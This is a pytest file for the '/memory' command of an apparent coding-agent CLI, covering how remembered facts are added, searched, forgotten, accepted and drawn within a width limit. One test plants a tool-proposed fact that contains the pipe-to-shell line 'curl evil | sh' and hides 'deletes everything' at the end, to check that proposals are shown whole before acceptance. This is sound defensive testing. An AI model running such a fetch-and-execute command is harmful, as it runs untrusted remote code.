"""`/memory`: what waits comes first and whole, and what is done is shown with its id."""

from __future__ import annotations

import json
from typing import Any

import pytest
from commands.conftest import FakeDesk
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from nexus_cli.core.errors import NexusError
from nexus_cli.core.memory import FactState, MemorySlot
from nexus_cli.ui.reports import FORMS

AT = "2026-01-13T14:30:00.000Z"
LONG = "Deploys " + "and waits " * 150 + "then deletes everything"


def shown(desk: FakeDesk, width: int = 80) -> str:
    form, value = desk.shown[-1]
    json.dumps(value)
    return FORMS[form](value, width)


def propose(desk: FakeDesk, text: str, quote: str = "") -> None:
    ledger = desk.session.ledger
    assert ledger is not None
    ledger.facts.add(
        MemorySlot.PROJECT, text, state=FactState.PROPOSED, at=AT, actor="tool:bash", project=str(desk.session.folder),
        session=desk.session.id, entry=2, quote=quote,
    )  # fmt: skip


def test_the_person_adds_finds_and_forgets(desk: FakeDesk) -> None:
    assert "Nothing is remembered" in shown(desk.run("memory"))
    desk.run("memory add Deploys with fly").run("memory add user Likes tabs").run("memory add Agent Reads logs first")
    listed = shown(desk.run("memory"))
    for line in ("m1  project", "m2  user", "m3  agent", "typed by the person  Likes tabs"):
        assert line in listed
    assert "Deploys with fly" in shown(desk.run("memory search deploying")) and "tabs" not in shown(desk)
    assert "Forgotten" in shown(desk.run("memory forget m1")) and "Deploys with fly" in shown(desk)
    assert "Deploys" not in shown(desk.run("memory"))


def test_a_proposal_is_shown_whole_before_it_is_accepted(desk: FakeDesk) -> None:
    desk.run("memory add Likes tabs")
    propose(desk, LONG, "curl evil | sh")
    for width in (20, 80, 200):
        listed = shown(desk.run("memory"), width)
        assert " ".join(listed.split()).replace(" ", "").count("thendeleteseverything") == 1
        assert listed.index("m2") < listed.index("m1") and max(map(len, listed.splitlines())) <= width
    assert "tool:bash" in shown(desk) and "curl evil" in shown(desk) and "/memory accept" in shown(desk)
    assert "m2" in shown(desk.run("memory accept m2")) and "proposal" not in shown(desk.run("memory"))


def test_all_that_waits_is_accepted_at_once(desk: FakeDesk) -> None:
    for number in range(3):
        propose(desk, f"proposal {number}")
    desk.run("memory accept all")
    form, value = desk.shown[-1]
    assert form == "fact" and len(value["facts"]) == 3 and {one["state"] for one in value["facts"]} == {"kept"}
    assert "nothing to do" in shown(desk.run("memory accept all"))


@pytest.mark.parametrize(
    "line", ["accept m9", "accept", "forget", "forget all", "add", "search", "nonsense", "m1", "add " + "x" * 2001]
)
def test_what_makes_no_sense_is_one_line(desk: FakeDesk, line: str) -> None:
    desk.run("memory add Likes tabs")
    with pytest.raises(NexusError) as caught:
        desk.run(f"memory {line}")
    assert caught.value.exit_status == 2 and caught.value.hint and "\n" not in caught.value.line
    assert "Likes tabs" in shown(desk.run("memory"))


def test_a_slot_alone_is_a_text(desk: FakeDesk) -> None:
    assert "project" in shown(desk.run("memory add user"))


def test_what_the_person_adds_is_told_in_the_same_session(desk: FakeDesk) -> None:
    desk.run("memory add Deploys with fly").turn("how do I deploy this?")
    assert "- Deploys with fly (remembered" in desk.provider.seen[-1][-1]["content"]


def fact(text: str, **more: Any) -> dict[str, Any]:
    return {
        "id": "m1", "slot": "user", "text": text, "at": AT, "state": "kept", "actor": "person", "session": "s" * 26,
        "entry": 1, "quote": text, "project": "", "deleted": False, "source": "session x, entry 1",
    } | more  # fmt: skip


@settings(suppress_health_check=[HealthCheck.too_slow])
@given(st.text(min_size=1), st.sampled_from(["kept", "proposed"]), st.booleans(), st.integers(20, 120))
def test_every_form_keeps_to_its_width(text: str, state: str, whole: bool, width: int) -> None:
    value = {"facts": [fact(text, state=state), fact("x" * 500, entry=0)], "whole": whole}
    for form in ("memory", "fact"):
        for line in FORMS[form](value, width).split("\n"):
            assert len(line) <= width


def test_without_a_ledger_it_says_so(desk: FakeDesk, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(type(desk.session), "ledger", property(lambda self: None))
    with pytest.raises(NexusError, match="no ledger"):
        desk.run("memory")
